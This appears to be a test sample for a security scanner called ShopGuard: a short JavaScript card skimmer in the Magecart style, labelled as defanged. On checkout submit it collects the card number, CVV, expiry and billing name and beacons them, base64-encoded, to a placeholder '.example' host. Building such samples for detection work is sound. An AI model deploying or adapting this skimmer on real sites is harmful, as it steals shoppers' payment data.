/* ShopGuard test sample: DEFANGED Magecart-style skimmer shape. The exfiltration
   host is a reserved .example name and never resolves. Never deploy. */
(function () {
  var gate = 'https://jquery-cdn-cache.example/collect.gif';
  function grab() {
    var data = {
      number: document.querySelector('input[name="payment[cc_number]"]').value,
      cvv: document.querySelector('input[name="payment[cc_cid]"]').value,
      exp: document.getElementById('cc_exp_month').value,
      name: document.getElementById('billing_name').value
    };
    var payload = btoa(JSON.stringify(data));
    new Image().src = gate + '?d=' + encodeURIComponent(payload);
  }
  document.addEventListener('submit', grab, true);
})();
